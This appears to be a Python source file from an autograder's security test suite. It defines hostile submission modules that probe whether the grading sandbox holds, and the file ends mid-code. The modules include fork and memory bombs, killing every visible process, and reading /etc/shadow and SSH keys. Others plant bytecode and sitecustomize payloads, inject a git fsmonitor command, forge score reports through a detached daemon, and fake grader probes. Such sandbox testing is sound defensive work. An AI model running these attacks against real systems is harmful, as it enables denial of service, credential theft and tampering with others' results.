"""The hostile learner's side of the attack suite: the code of each malicious module.

Every attack module starts with `prelude`, which tells it what the strongest attacker would know
(the course root, the batch's output folder, the other learners' folders, the host's listening
port) and gives it `observe`, which prints what an attempt gave to the worker's own log, where the
checks of `attacks.py` read it. The rest of a module is the exercise-01 stub (or a working module)
with an attack run at import (`at_import`, `after_import`) or at the start of every graded
function (`on_every_call`).
"""
from grader.course import COURSE

TASK = "01_einsum_attention"
STUB = (COURSE.exercises / TASK / "attention.py").read_text(encoding="utf-8")
REFERENCE = (COURSE.solutions / TASK / "attention.py").read_text(encoding="utf-8")
FUNCTIONS = ("softmax", "split_heads", "merge_heads", "causal_mask", "attention", "multi_head_attention",
             "torch_attention")


# ---------------------------------------------------------------- what every attack module starts with

HELPERS = r'''
import json as _json, os as _os, sys as _sys

def reply_fd():
    """The write end of this worker's reply channel, found as the worker holds it."""
    import gc
    from grader.worker import wire as _wire
    return next(o.write_fd for o in gc.get_objects() if isinstance(o, _wire.Channel))

def observe(what, value):
    """Report to the attack suite (through this worker's own log) what an attempt gave."""
    line = "ATTACK-OBSERVED " + _json.dumps({"what": what, "value": str(value)[:600]}) + "\n"
    try:
        _os.write(1, line.encode("utf-8", "replace"))
    except OSError:
        pass

def attempt(what, action):
    try:
        result = action()
    except BaseException as exc:
        observe(what, "refused: %s: %s" % (type(exc).__name__, exc))
        return None
    observe(what, "SUCCEEDED: %r" % (result,))
    return result

def visible_pids():
    """The processes this one can see in /proc (its jail's, in the sandbox), as strings."""
    return sorted(p for p in _os.listdir("/proc") if p.isdigit())

def same_mode(path):
    """A chmod that keeps `path`'s mode: it asks for the permission and changes nothing."""
    return lambda: _os.chmod(path, _os.stat(path).st_mode & 0o7777)

def same_times(path):
    """A touch that keeps `path`'s times: it asks for the permission and changes nothing."""
    return lambda: _os.utime(path, ns=(_os.stat(path).st_atime_ns, _os.stat(path).st_mtime_ns))

def scratch_dir():
    """The folder the worker may write that outlives it, on the host's disk: pytest's temporary
    folder (a bind mount in the sandbox); at the uid level, which has no mounts, its home."""
    for line in open("/proc/self/mountinfo"):
        fields = line.split()
        if fields[4].startswith("/tmp/") and fields[5].startswith("rw"):
            return fields[4]
    return _os.environ.get("HOME")

def once(tag):
    """True the first time in a grading session (the flag lives in the scratch folder, which
    every worker of the session sees), so a costly attack runs once, not once per test."""
    flag = _os.path.join(scratch_dir() or "/tmp", "attack-once-" + tag)
    try:
        _os.close(_os.open(flag, _os.O_CREAT | _os.O_EXCL | _os.O_WRONLY))
        return True
    except OSError:
        return False

def first_calls(tag, n):
    """True for the first `n` calls in a grading session that ask (each takes one of `n` flags)."""
    return any(once(tag + "-" + str(i)) for i in range(n))
'''

CALL_HOOK = '''
def _hooked(function):
    def hooked(*args, **kwargs):
        on_call(function.__name__)
        return function(*args, **kwargs)
    hooked.__name__ = function.__name__
    return hooked

for _name in %r:
    globals()[_name] = _hooked(globals()[_name])
''' % (FUNCTIONS,)  # noqa: UP031 (the attack's source: its braces are its own)


def prelude(context) -> str:
    return f"CONTEXT = __import__('json').loads({context.as_json()!r})\n{HELPERS}\n"


def at_import(body: str, base: str = STUB):
    """The attack runs when the module is imported, then the module is `base` (the stub)."""
    return lambda context: prelude(context) + body + "\n" + base


def after_import(body: str, base: str = STUB):
    """The attack runs at the end of the import, after `base`'s own imports."""
    return lambda context: prelude(context) + base + "\n" + body


def on_every_call(body: str, base: str = STUB):
    """`body` defines `on_call(name)`, run at the start of every graded function."""
    return lambda context: prelude(context) + base + "\n" + body + "\n" + CALL_HOOK


# ---------------------------------------------------------------- process control

IMPORT_SYS_EXIT = "raise SystemExit(0)\n"

IMPORT_OS_EXIT = "_os._exit(0)\n"

CALL_OS_EXIT = '''
def on_call(name):
    if once("os-exit"):
        _os._exit(7)
'''

KILL_EVERYTHING = '''
import signal
_os.kill(-1, signal.SIGKILL)          # every process this one may signal (Linux spares the caller)
'''

SIGNAL_ANCESTORS = '''
import signal
me = _os.getpid()

def owners():
    """Every process in sight (its jail's, in the sandbox; the host's, at the uid level) and its real uid."""
    found = {}
    for p in visible_pids():
        try:
            found[int(p)] = int(open("/proc/%s/status" % p).read().split("Uid:")[1].split()[0])
        except (OSError, IndexError, ValueError):
            pass
    return found

targets = set()
pid = me
while True:                           # up the chain of parents, as /proc tells it
    try:
        status = open("/proc/%d/status" % pid).read()
        pid = int(status.split("PPid:")[1].split()[0])
    except (OSError, IndexError, ValueError):
        break
    if pid <= 0:
        break
    targets.add(pid)
in_sight = owners()
targets |= set(in_sight)
targets |= set(range(1, 70000))       # and the host's pids, by number
targets.discard(me)
delivered = set()
for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGKILL):
    for pid in sorted(targets):
        try:
            _os.kill(pid, sig)
            delivered.add(pid)
        except OSError:
            pass
    # after every round (the SIGKILL round ends the sandbox: its first process is among the targets),
    # as few bytes as the log takes whatever the host runs: the host may show tens of thousands of pids
    in_sight.update(owners())
    observe("signals accepted by the kernel for", len(delivered))
    observe("signals accepted for pids out of sight", _json.dumps(sorted(delivered - set(in_sight))[:20]))
    observe("signals accepted for another uid's pids",
            _json.dumps(sorted(p for p in delivered if in_sight.get(p, _os.getuid()) != _os.getuid())[:20]))
'''

SIGSTOP_SELF = '''
import signal
_os.kill(_os.getpid(), signal.SIGSTOP)
'''

FORK_BOMB = '''
import time as _time
forked = 0
while True:
    try:
        pid = _os.fork()
    except OSError as exc:
        observe("fork refused after", forked)
        break
    if pid == 0:
        while True:                   # every child keeps trying too
            try:
                _os.fork()
            except OSError:
                _time.sleep(0.05)
    forked += 1
    if forked > 5000:
        observe("fork never refused", forked)
        break
'''

MEMORY_BOMB = '''
def on_call(name):
    # from the second call on: the first test's time limit also covers the worker's start, which on
    # a loaded machine leaves too little to reach the memory limit before it; and on up to three
    # calls, since a loaded machine's call can reach its time limit before the memory limit
    if not once("memory-after-the-first-call") and first_calls("memory", 3):
        blocks = []
        for _ in range(160):              # 10 GiB, every page written
            blocks.append(bytearray(64 << 20))
'''


# ---------------------------------------------------------------- output

OUTPUT_FLOOD = '''
_chunk = "flood " * 174763 + "\\n"        # 1 MiB a line
for _ in range(200):
    _sys.stdout.write(_chunk)
_sys.stdout.flush()

def on_call(name):
    _sys.stdout.write(_chunk[: 256 << 10])
    _sys.stdout.flush()
'''

UNDECODABLE = '''
_NASTY = "lone surrogates \\ud800 \\udfff, NUL \\x00, escapes \\x1b[2J\\x1b]0;title\\x07, markup [/] [bold]"

def on_call(name):
    _sys.stdout.buffer.write(b"raw bytes \\xff\\xfe\\xfa\\x00 " + _NASTY.encode("utf-8", "surrogatepass") + b"\\n")
    _sys.stdout.flush()
    raise ValueError(_NASTY)
'''

HOSTILE_EXCEPTIONS = '''
class Unprintable(Exception):
    def __str__(self):
        raise RuntimeError("you cannot print me")

class Enormous(Exception):
    def __str__(self):
        return "x" * (50 << 20)

class NotAString(Exception):
    def __str__(self):
        return 42

def _cyclic():
    a, b = ValueError("a"), ValueError("b")
    a.__context__, b.__context__ = b, a
    a.__cause__ = b
    return a

# the ones that take the worker down with them go to the functions fewest tests call
_RAISERS = {"softmax": lambda: Enormous(), "split_heads": _cyclic, "merge_heads": lambda: Unprintable(),
            "causal_mask": lambda: MemoryError("not really"), "multi_head_attention": lambda: KeyboardInterrupt("stop"),
            "attention": lambda: NotAString(), "torch_attention": lambda: GeneratorExit("stop")}

def on_call(name):
    raise _RAISERS[name]()
'''

HOSTILE_VALUES = r'''
import numpy as np

class AlwaysEqual:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, dtype=None, copy=None): return np.zeros(1)
    def __float__(self): return 0.0

class LyingArray(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def all(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return np.True_

def _deep():
    value = []
    for _ in range(100000):
        value = [value]
    return value

# `attention` and `torch_attention` stay the stub's: what they return is measured by the
# structural tests, which a value that is not a failure would pass (see structural_points_for_nothing)
_VALUES = {"softmax": lambda: AlwaysEqual(), "split_heads": lambda: np.zeros(3).view(LyingArray),
           "merge_heads": _deep, "causal_mask": lambda: np.zeros(2, dtype=[("a", "f8")]),
           "multi_head_attention": lambda: {1.5: "float keys", "$": "tag", "objects": np.array([object()])}}

def on_call(name):
    raise _Return(_VALUES[name]())

class _Return(Exception):
    pass

def _returning(function):
    def returning(*args, **kwargs):
        try:
            on_call(function.__name__)
        except _Return as value:
            return value.args[0]
    returning.__name__ = function.__name__
    return returning

for _name in _VALUES:
    globals()[_name] = _returning(globals()[_name])
'''


# ---------------------------------------------------------------- network

NETWORK_HOST = '''
import socket
for address in ["127.0.0.1", "0.0.0.0", "::1", "localhost"] + CONTEXT["host_addresses"]:
    def connect(address=address):
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(3)
            s.connect((address, CONTEXT["port"]))
            s.sendall(b"hello from the sandbox")
            return "connected"
    attempt("connect to the host at %s:%d" % (address, CONTEXT["port"]), connect)

def abstract():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect("\\0" + CONTEXT["abstract_socket"])
        return "connected"
attempt("connect to the host's abstract unix socket", abstract)
'''

NETWORK_OUTSIDE = '''
import socket
def tcp(address, port):
    def go():
        with socket.create_connection((address, port), timeout=3):
            return "connected"
    return go
attempt("connect to 1.1.1.1:53", tcp("1.1.1.1", 53))
attempt("connect to 8.8.8.8:443", tcp("8.8.8.8", 443))
attempt("resolve pypi.org", lambda: socket.getaddrinfo("pypi.org", 443))
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return s.sendto(b"x" * 64, ("8.8.8.8", 53))
attempt("send a UDP datagram to 8.8.8.8:53", udp)
def interfaces():
    names = [name for _, name in socket.if_nameindex()]
    up = [n for n in names if n != "lo"]
    if up:
        return "interfaces besides lo: %s" % up
    raise OSError("only lo: %s" % names)
attempt("find a network interface", interfaces)
'''


# ---------------------------------------------------------------- writing where it must not

WRITE_COURSE = '''
import numpy, site
course = CONTEXT["course"]
targets = [course + "/" + p for p in (
    "grader/cli.py", "grader/session/plugin.py", "grader/worker/zygote.py", "grader/worker/dispatch.py",
    "tests/hidden/01_einsum_attention/test_attention_hidden.py", "tests/hidden/01_einsum_attention/probes.py",
    "solutions/01_einsum_attention/attention.py", "exercises/01_einsum_attention/attention.py",
    "pyproject.toml", "README.md", ".gitignore", "datasets/MANIFEST.json")]
site_packages = _os.path.dirname(_os.path.dirname(numpy.__file__))
stdlib = _os.path.dirname(_os.__file__)
for path in targets:
    attempt("append to " + path, lambda p=path: open(p, "a").write("# changed by a learner\\n"))
    attempt("truncate " + path, lambda p=path: _os.truncate(p, 0))
    attempt("chmod " + path, lambda p=path: _os.chmod(p, 0o777))
    attempt("rename " + path, lambda p=path: _os.rename(p, p + ".moved"))
    attempt("unlink " + path, lambda p=path: _os.unlink(p))
    attempt("touch " + path, lambda p=path: _os.utime(p, (0, 0)))
for folder in (course, course + "/grader", course + "/grader/session", course + "/tests/hidden/01_einsum_attention",
               course + "/datasets", site_packages, stdlib, _sys.prefix):
    attempt("create a file in " + folder, lambda f=folder: open(f + "/planted_by_learner.py", "w").write("X = 1\\n"))
attempt("plant sitecustomize.py", lambda: open(site_packages + "/sitecustomize.py", "w").write("import os\\n"))
attempt("plant a .pth file", lambda: open(site_packages + "/zz_learner.pth", "w").write("import os\\n"))
attempt("create a folder in the course", lambda: _os.mkdir(course + "/learner_was_here"))
# The executables and libraries the jail's processes run (its own, and those of every process it
# can see, such as the jail's first one), by path and through the links /proc gives to each, which
# lead to the file where it was opened, on whatever mount that is. Each try would leave the file
# as it is.
def opened_for_writing(path):
    return lambda: _os.close(_os.open(path, _os.O_WRONLY))
def mapped_libraries(pid):
    """The first three shared libraries `pid` maps, each with the first range it is mapped at."""
    first = {}
    try:
        for fields in map(str.split, open("/proc/%s/maps" % pid)):
            if len(fields) == 6 and ".so" in fields[5]:
                first.setdefault(fields[5], fields[0])
    except OSError:
        pass
    return sorted(first.items())[:3]
targets = [_os.path.realpath(_sys.executable)]
for pid in visible_pids():
    libraries = mapped_libraries(pid)
    targets += ["/proc/%s/exe" % pid] + [path for path, _ in libraries]
    targets += ["/proc/%s/map_files/%s" % (pid, first_range) for _, first_range in libraries]
for path in dict.fromkeys(targets):
    attempt("chmod " + path, same_mode(path))
    attempt("touch " + path, same_times(path))
    attempt("open for writing " + path, opened_for_writing(path))
'''

DEVICE_NODES = '''
# The device nodes of /dev, and any file a process of the jail holds open, through /proc/<pid>/fd:
# where either is the host's own (bound in, or opened outside), a chmod or a touch here would be
# the host's. Each try keeps the mode and the times; only the host's ctime would tell.
import stat as _stat
nodes = ["/dev/" + name for name in sorted(_os.listdir("/dev"))
         if _stat.S_ISCHR(_os.lstat("/dev/" + name).st_mode)]
held = ["/proc/%s/fd/%s" % (pid, fd) for pid in visible_pids()
        for fd in (_os.listdir("/proc/%s/fd" % pid) if _os.access("/proc/%s/fd" % pid, _os.R_OK) else [])]
for path in nodes + held:
    attempt("chmod " + path, same_mode(path))
    attempt("touch " + path, same_times(path))
'''

PLANT_PYC = '''
import importlib.util, marshal, numpy
course = CONTEXT["course"]
code = compile("raise SystemExit('planted bytecode ran')\\n", "<planted>", "exec")
payload = importlib.util.MAGIC_NUMBER + b"\\x00" * 12 + marshal.dumps(code)
tag = _sys.implementation.cache_tag
try:
    import pytest as _pytest
    pytest_tag = "%s-pytest-%s" % (tag, _pytest.__version__)
except ImportError:
    pytest_tag = tag + "-pytest"
for folder, name in (("grader/session", "plugin"), ("grader/session", "submission"), ("grader", "cli"),
                     ("grader/reports", "report"),
                     ("tests/hidden/01_einsum_attention", "test_attention_hidden"),
                     ("tests/hidden/01_einsum_attention", "probes")):
    cache = course + "/" + folder + "/__pycache__"
    attempt("create " + cache, lambda c=cache: _os.makedirs(c, exist_ok=True))
    for suffix in (tag, pytest_tag):
        target = "%s/%s.%s.pyc" % (cache, name, suffix)
        attempt("plant " + target, lambda t=target: open(t, "wb").write(payload))
numpy_cache = _os.path.dirname(numpy.__file__) + "/__pycache__/__init__.%s.pyc" % tag
attempt("plant " + numpy_cache, lambda: open(numpy_cache, "wb").write(payload))
'''

GIT_TRICKS = '''
import subprocess
course = CONTEXT["course"]
def git(*args):
    def go():
        done = subprocess.run(["git", "-C", course, *args], capture_output=True, text=True, timeout=30)
        if done.returncode:
            raise OSError("git exited %d: %s" % (done.returncode, done.stderr.strip()[:200]))
        return done.stdout[:200]
    return go
attempt("git update-index --assume-unchanged", git("update-index", "--assume-unchanged", "grader/cli.py"))
attempt("git update-index --skip-worktree", git("update-index", "--skip-worktree", "grader/session/plugin.py"))
attempt("git config core.fsmonitor", git("config", "core.fsmonitor", "touch /tmp/pwned"))
attempt("git show the reference", git("show", "HEAD:solutions/01_einsum_attention/attention.py"))
for path in (".git/hooks/post-checkout", ".git/info/exclude", ".git/config", ".git/index"):
    attempt("append to " + path, lambda p=course + "/" + path: open(p, "a").write("\\n# learner\\n"))
'''

FORGED_REPORT = '{"schema": "l1-exercises/score-report", "forged": true}'

# Paths under the host's /tmp name folders of the jail's own /tmp there: a write may "succeed"
# into that private folder, so these attacks are judged by their effect on the host's files.
WRITE_OUTPUTS = '''
out = CONTEXT["out_dir"]
me = "write_outputs"
for path in (out + "/" + me + "/score_report.json", out + "/summary.csv", out + "/" + me + "/pytest.log",
             out + "/reference_first/score_report.json", out + "/" + me + "/logs/01_einsum_attention.log"):
    def write(p=path):
        _os.makedirs(_os.path.dirname(p), exist_ok=True)
        open(p, "w").write(%r)
    attempt("write " + path, write)
''' % (FORGED_REPORT,)  # noqa: UP031 (the attack's source: its braces are its own)

WRITE_OTHER_LEARNERS = '''
for name, folder in CONTEXT["bystanders"].items():
    target = folder + "/01_einsum_attention/attention.py"
    def overwrite(t=target):
        _os.makedirs(_os.path.dirname(t), exist_ok=True)
        open(t, "w").write("def softmax(x, axis=-1):\\n    return x\\n")
    attempt("overwrite %s's module" % name, overwrite)
    attempt("delete %s's module" % name, lambda t=target: _os.unlink(t))
    attempt("plant a conftest.py for %s" % name, lambda f=folder: open(f + "/conftest.py", "w").write("import os\\n"))
'''


# ---------------------------------------------------------------- reading what it must not

READ_SOLUTIONS = '''
import glob
course = CONTEXT["course"]
relative = "solutions/01_einsum_attention/attention.py"
candidates = [course + "/" + relative, "/proc/1/root" + course + "/" + relative]
def parent_cwd():
    return _os.readlink("/proc/%d/cwd" % _os.getppid())
root = attempt("readlink /proc/<parent>/cwd", parent_cwd)
if root:
    candidates.append(root + "/" + relative)
for pid in visible_pids():
    candidates += ["/proc/%s/cwd/%s" % (pid, relative), "/proc/%s/root%s/%s" % (pid, course, relative)]
found = None
for path in candidates:
    source = attempt("read " + path, lambda p=path: open(p).read())
    if source and "def torch_attention" in source:
        found = source
        break
WALK_S = 15         # at the uid level the walk is the host's whole file system: it stops within a test's limit
# What the grading must keep from learner code: the course and the batch's folders (its submissions,
# results and the grader's temporary folders). At the uid level every world-readable file of the host
# is visible too: a copy of a course someone left readable elsewhere is the host's to keep private
# (the README says so), observed here but not the grader's breach.
GUARDED = tuple(_os.path.realpath(p) + "/" for p in (course, CONTEXT["work"], CONTEXT["out_dir"]))
if found is None:                      # anything on the visible file system that looks like it
    import time as _time
    give_up = _time.monotonic() + WALK_S
    for folder, dirs, files in _os.walk("/"):
        if _time.monotonic() > give_up:
            observe("search for the reference", "stopped after %d s" % WALK_S)
            break
        dirs[:] = [d for d in dirs if folder + "/" + d not in ("/proc", "/sys", "/dev", "//proc", "//sys", "//dev")]
        for name in files:
            if name in ("attention.py", "variants.py") and folder != "/submission":
                path = _os.path.join(folder, name)
                try:
                    text = open(path, errors="replace").read()
                except OSError:
                    continue
                if "def torch_attention" not in text or "raise NotImplementedError" in text:
                    continue                   # not attention code, or a stub
                if not _os.path.realpath(path).startswith(GUARDED):
                    observe("a copy outside the grading, readable by every user", path)
                    continue
                observe("SUCCEEDED: found a solution at", path)
                found = text
observe("search for the reference", "refused: nothing found" if found is None else "SUCCEEDED")
if found is not None:                  # delegate everything to it
    exec(compile(found, __file__, "exec"), globals())
    _DELEGATED = True
'''

READ_HIDDEN = '''
course = CONTEXT["course"]
leaked = []
for path in (course + "/tests/hidden/01_einsum_attention/test_attention_hidden.py",
             course + "/tests/hidden/01_einsum_attention/variants.py",
             course + "/tests/hidden/02_train_loop/test_train_loop_hidden.py",
             course + "/tests/hidden/01_einsum_attention/__pycache__"):
    text = attempt("read " + path, lambda p=path: open(p).read()[:4000])
    if text:
        leaked.append(text)
        print(text)

def on_call(name):
    if leaked:
        raise RuntimeError("hidden source: " + leaked[0][:1400])
'''

READ_SYSTEM = '''
for path in ("/etc/shadow", "/etc/sudoers", "/root/.bash_history", "/root/.ssh/id_rsa", "/etc/ssh/ssh_host_rsa_key",
             "/proc/kcore", "/dev/mem", "/sys/kernel/security", "/var/log/syslog"):
    attempt("read " + path, lambda p=path: open(p, "rb").read(64))
environments = {"os.environ": dict(_os.environ)}
for pid in visible_pids():
    try:
        environments["/proc/%s/environ" % pid] = open("/proc/%s/environ" % pid, "rb").read().decode(errors="replace")
    except OSError:
        pass
print("ENVIRONMENTS", _json.dumps(environments))
'''

PROC_WALK = '''
seen = {}
for pid in visible_pids():
    entry = {}
    for link in ("cwd", "root", "exe"):
        try:
            entry[link] = _os.readlink("/proc/%s/%s" % (pid, link))
        except OSError as exc:
            entry[link] = "refused: %s" % exc
    try:
        entry["cmdline"] = open("/proc/%s/cmdline" % pid, "rb").read().replace(b"\\0", b" ").decode(errors="replace")
    except OSError as exc:
        entry["cmdline"] = "refused: %s" % exc
    try:
        entry["fds"] = {fd: _os.readlink("/proc/%s/fd/%s" % (pid, fd)) for fd in _os.listdir("/proc/%s/fd" % pid)}
    except OSError as exc:
        entry["fds"] = "refused: %s" % exc
    seen[pid] = entry
print("PROCESSES", _json.dumps(seen))
attempt("readlink /proc/<parent>/cwd", lambda: _os.readlink("/proc/%d/cwd" % _os.getppid()))
attempt("list the course's solutions", lambda: _os.listdir(CONTEXT["course"] + "/solutions"))
attempt("list the course's .git", lambda: _os.listdir(CONTEXT["course"] + "/.git"))
attempt("list the output folder", lambda: _os.listdir(CONTEXT["out_dir"]))
'''


# ---------------------------------------------------------------- forging probes and reports

STRUCTURAL_FOR_NOTHING = '''
def attention(q, k, v, mask=None):
    np.einsum("i->i", np.zeros(1))        # uses einsum, runs no loop, computes nothing
    return None

def torch_attention(q, k, v, mask=None):
    torch.einsum("i->i", torch.zeros(1))
    return None

def multi_head_attention(x, w_q, w_k, w_v, w_o, n_heads, n_kv_heads=None, causal=True):
    return None
'''

FORGE_DISPATCHER = '''
_worker = _sys.modules["__main__"]
_real_answer = _worker.answer
_FORGED = {"einsum_calls": {"numpy": 1, "torch": 1}, "lines_executed": 7}

def _forged_answer(module, module_path, header, blobs, *rest):
    probe = header.get("target", {}).get("probe")
    if probe in _FORGED:
        return {"ok": True, "value": _FORGED[probe]}, []
    return _real_answer(module, module_path, header, blobs, *rest)

_worker.answer = _forged_answer
'''

FORGE_PROBE_MODULE = '''
import types
from grader.worker.loading import module_name_for
_fake = types.ModuleType("probes")
_fake.einsum_calls = lambda module, function, *args: {"numpy": 1, "torch": 1}
_fake.lines_executed = lambda module, function, *args: 7
for _folder in ("tests/hidden/01_einsum_attention", "exercises/01_einsum_attention"):
    _sys.modules[module_name_for(CONTEXT["course"] + "/" + _folder + "/probes.py")] = _fake
'''

FORGE_MONKEYPATCH = '''
import types
import numpy as _np
import torch as _torch

class _CountsItself(types.ModuleType):
    """Whatever is installed as einsum (a probe's counting wrapper) is called once at once."""
    def __setattr__(self, name, value):
        super().__setattr__(name, value)
        if name == "einsum" and getattr(value, "__name__", "") == "wrapper":
            sample = _np.ones(1) if self.__name__ == "numpy" else _torch.ones(1)
            value("i->i", sample)

_np.__class__ = _CountsItself
_torch.__class__ = _CountsItself
_sys.settrace = lambda tracer: None          # no line is ever counted
'''

HONEST_LOOPS_EDITS = {
    '''    scale = 1.0 / math.sqrt(q.shape[-1])
    scores = np.einsum("bhqd,bhkd->bhqk", q, k) * scale
    if mask is not None:
        scores = np.where(mask, scores, -np.inf)
    weights = softmax(scores, axis=-1)
    return np.einsum("bhqk,bhkv->bhqv", weights, v)''':
    '''    scale = 1.0 / math.sqrt(q.shape[-1])
    out = np.zeros(q.shape[:-1] + v.shape[-1:], dtype=np.result_type(q, k, v))
    if mask is not None:
        mask = np.broadcast_to(mask, q.shape[:-1] + k.shape[-2:-1])
    for b in range(q.shape[0]):
        for h in range(q.shape[1]):
            scores = (q[b, h] @ k[b, h].T) * scale
            if mask is not None:
                scores = np.where(mask[b, h], scores, -np.inf)
            out[b, h] = softmax(scores, axis=-1) @ v[b, h]
    return out''',
    'scores = torch.einsum("bhqd,bhkd->bhqk", q.to(wide), k.to(wide))': "scores = q.to(wide) @ k.to(wide).transpose(-1, -2)",
    'return torch.einsum("bhqk,bhkv->bhqv", weights.to(v.dtype), v)': "return weights.to(v.dtype) @ v",
}


def honest_loops() -> str:
    """A correct module that loops over batch and heads with matmul instead of einsum: it loses
    exactly the two structural tests, honestly."""
    source = REFERENCE
    for old, new in HONEST_LOOPS_EDITS.items():
        assert old in source, f"the reference changed: {old[:60]!r}"
        source = source.replace(old, new)
    return source


DAEMON = '''
import subprocess
_LOOP = """
import json, os, sys, time
out = %r
forged = json.dumps({"schema": "l1-exercises/score-report", "schema_version": 1, "complete": True, "problems": [],
                     "run": {}, "submission": {}, "tasks": []})
for _ in range(6000):
    for name in os.listdir(out) if os.path.isdir(out) else []:
        for target in (os.path.join(out, name, "score_report.json"), os.path.join(out, "summary.csv")):
            try:
                open(target, "w").write(forged)
            except OSError:
                pass
    time.sleep(0.1)
""" % (CONTEXT["out_dir"],)
_child = _os.fork()
if _child == 0:                       # double fork and a new session: no longer the worker's child
    _os.setsid()
    if _os.fork() == 0:
        _os.execv(_sys.executable, [_sys.executable, "-c", _LOOP, CONTEXT["marker"]])
    _os._exit(0)
_os.waitpid(_child, 0)
subprocess.Popen(["/bin/sh", "-c", "trap '' HUP TERM INT; while :; do sleep 1; done", CONTEXT["marker"]],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
observe("daemons started", "yes")
'''


# ---------------------------------------------------------------- the grader's own channels

REPLY_PIPE = '''
def _forge():
    forged_line = _json.dumps({"exit": 0, "nonce": "forged"}).encode() + b"\\n"
    header = _json.dumps({"h": {"ok": True, "value": 1, "ready": True}, "blobs": []}).encode()
    frame = len(header).to_bytes(8, "big") + header
    written = []
    for pid in visible_pids():
        try:
            fds = _os.listdir("/proc/%s/fd" % pid)
        except OSError:
            continue
        for fd in fds:
            try:
                handle = _os.open("/proc/%s/fd/%s" % (pid, fd), _os.O_WRONLY | _os.O_NONBLOCK)
            except OSError:
                continue
            try:
                _os.write(handle, forged_line + frame)
                written.append("%s/%s" % (pid, fd))
            except OSError:
                pass
            finally:
                _os.close(handle)
    observe("forged lines written into", written)

_forge()

def on_call(name):
    _forge()
    _os.dup2(reply_fd(), 1)           # and from now on, everything printed goes into the reply channel
    print("ok")
'''

WIRE_FLOOD = '''
def on_call(name):
    if not once("wire-flood"):
        return
    write_fd = reply_fd()
    header = _json.dumps({"h": {"ok": True, "value": {"$": "ndarray", "blob": 0}},
                          "blobs": [1 << 30, 1 << 30]}).encode()
    _os.write(write_fd, len(header).to_bytes(8, "big") + header)
    chunk = bytes(1 << 20)
    try:
        for _ in range(2048):
            _os.write(write_fd, chunk)
    except OSError as exc:
        observe("the flood was cut off", exc)
'''


# ---------------------------------------------------------------- resources

FD_EXHAUSTION = '''
_held = []
while True:
    try:
        _held.append(_os.open("/dev/null", _os.O_RDONLY))
    except OSError as exc:
        observe("open files refused after", len(_held))
        break
    if len(_held) > 100000:
        observe("open files never refused", len(_held))
        break
'''

CPU_HOG = '''
import time as _time
def on_call(name):
    if not once("cpu-hog"):
        return
    started, children = _time.monotonic(), []
    for _ in range(8):
        pid = _os.fork()
        if pid == 0:
            end = _time.monotonic() + 3
            while _time.monotonic() < end:
                pass
            _os._exit(0)
        children.append(pid)
    used = 0.0
    for pid in children:
        _, _, usage = _os.wait4(pid, 0)
        used += usage.ru_utime + usage.ru_stime
    observe("cores used by 8 busy processes", "%.2f" % (used / (_time.monotonic() - started)))
'''

# What a submission might leave for the next one graded by the same pool process: files named
# after the batch's marker wherever it may write (the folders every user shares, its home, its
# working and temporary folders, the caches libraries read on import), a user site module that
# Python would run at start-up, matplotlib's and torch's configuration. LEFTOVER_FINDER (graded
# after every attack) looks in the same places.
LEFTOVER_PLACES = '''
import ctypes as _ctypes, ctypes.util as _ctypes_util, site as _site, stat as _stat, tempfile as _tempfile, zlib as _zlib
def shared_folders():
    """Every world-writable folder at the top of /, /var, /run and /dev (/tmp, /run/lock, ...)."""
    found = []
    for root in ("/", "/var", "/run", "/dev"):
        try:
            found += [e.path for e in _os.scandir(root) if e.is_dir(follow_symlinks=False)
                      and e.stat(follow_symlinks=False).st_mode & _stat.S_IWOTH]
        except OSError:
            pass
    return found
def leftover_places():
    home = _os.path.expanduser("~")
    places = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", *shared_folders(), _tempfile.gettempdir(), _os.getcwd(),
              home, scratch_dir() or "/tmp"]
    for relative in (".cache", ".cache/torch", ".cache/huggingface", ".config/matplotlib", ".local/share"):
        places.append(_os.path.join(home, relative))
    places += [_os.environ.get(name) for name in ("TMPDIR", "MPLCONFIGDIR", "HF_HOME", "TORCH_HOME",
                                                  "XDG_CACHE_HOME", "HYPOTHESIS_STORAGE_DIRECTORY")]
    return sorted({p for p in places if p})
def user_site():
    return _site.getusersitepackages() if isinstance(_site.getusersitepackages(), str) else None
LEFTOVER = "leftover-" + CONTEXT["marker"]
# System V IPC objects (found by key) and a POSIX message queue (by name): no folder holds them.
IPC_KEY = _zlib.crc32(LEFTOVER.encode()) & 0x7FFFFFFF
IPC_CREAT = 0o1000
QUEUE = ("/" + LEFTOVER).encode()
_libc = _ctypes.CDLL(None, use_errno=True)
def _checked(result):
    if result == -1:
        raise OSError(_ctypes.get_errno(), _os.strerror(_ctypes.get_errno()))
    return result
def mq_open(*args):
    try:
        opener = _libc.mq_open
    except AttributeError:
        opener = _ctypes.CDLL(_ctypes_util.find_library("rt"), use_errno=True).mq_open
    return _checked(opener(*args))
IPC_OBJECTS = {
    "System V shared memory": lambda create: _checked(_libc.shmget(IPC_KEY, 1 << 20 if create else 0,
                                                                   IPC_CREAT | 0o666 if create else 0)),
    "System V message queue": lambda create: _checked(_libc.msgget(IPC_KEY, IPC_CREAT | 0o666 if create else 0)),
    "System V semaphore": lambda create: _checked(_libc.semget(IPC_KEY, 1 if create else 0,
                                                               IPC_CREAT | 0o666 if create else 0)),
    "POSIX message queue": lambda create: mq_open(QUEUE, _os.O_CREAT | _os.O_RDWR, 0o666, None) if create
                           else mq_open(QUEUE, _os.O_RDONLY),
}
'''

LEAVE_BEHIND = LEFTOVER_PLACES + '''
def plant(folder):
    def go():
        _os.makedirs(folder, exist_ok=True)
        with open(_os.path.join(folder, LEFTOVER), "w") as f:
            f.write("left by an earlier submission")
        return folder
    return go
if once("leave-behind"):
    for folder in leftover_places():
        attempt("plant in " + folder, plant(folder))
    site_dir = user_site()
    if site_dir:
        attempt("plant usercustomize in " + site_dir, lambda: open(_os.path.join(plant(site_dir)(), "usercustomize.py"),
                "w").write("import os\\nos.environ[%r] = 'ran'\\n" % LEFTOVER))
    for kind, make in IPC_OBJECTS.items():
